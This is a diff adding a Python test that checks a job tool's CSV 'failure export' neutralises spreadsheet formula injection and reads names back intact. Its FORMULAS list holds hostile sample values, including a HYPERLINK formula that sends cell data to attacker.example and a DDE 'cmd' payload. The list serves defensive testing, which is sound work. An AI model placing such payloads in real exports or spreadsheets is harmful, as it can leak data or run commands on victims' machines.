@@ -161,3 +161,39 @@ def test_a_store_copy_into_an_existing_store_says_what_it_holds_and_how_to_finis
 
     with open_store(f"folder:{existing}") as copied, open_store(str(big_store)) as original:
         assert list(copied.records()) == list(original.records())
+
+
+# ---------------------------------------------------------------- CSV for people
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
+            "\t=1+1", "\r=1+1", "'=already quoted", "plain-name", "a=b"]
+
+
+def test_failure_export_neutralises_spreadsheet_formulas_and_reads_back_the_same_names(tmp_path):
+    """A job's owner names it `=HYPERLINK(...)` (or starts its name, account or folder with + - @ tab CR): in the CSV
+    `failure export` writes, no text cell starts a formula (OWASP: a `'` before it); read back by the failure reader,
+    every name is the job's own. Before, the cells were written as they were."""
+    import csv
+
+    from jobaware.failure.reader import read_jobs
+    from jobaware.store import JobKey, open_store
+
+    store = tmp_path / "store"
+    with open_store(str(store)) as opened:
+        for i, name in enumerate(FORMULAS):
+            key = JobKey("c1", i + 1, 1_700_000_000 + i)
+            opened.put_job(key, {"job_id": i + 1, "name": name, "user": f"-u{i}", "account": "@acct",
+                                 "work_dir": "=cwd", "submit_time": key.submit_time, "state": "COMPLETED"})
+            opened.put_final(key, "COMPLETED", "sacct", exit_code=0)
+    output = tmp_path / "jobs.csv"
+    result = jobaware("failure", "export", "--store", store, "--output", output)
+    assert result.returncode == 0, result.stderr
+    with open(output, newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for column in ("name", "user", "account", "work_dir"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
+    assert {row["name"] for row in rows} >= {"'" + FORMULAS[0], "''=already quoted", "plain-name", "a=b"}
+    jobs, _ = read_jobs(output)
+    assert sorted(jobs["name"]) == sorted(FORMULAS)
+    assert set(jobs["account"]) == {"@acct"} and set(jobs["work_dir"]) == {"=cwd"}
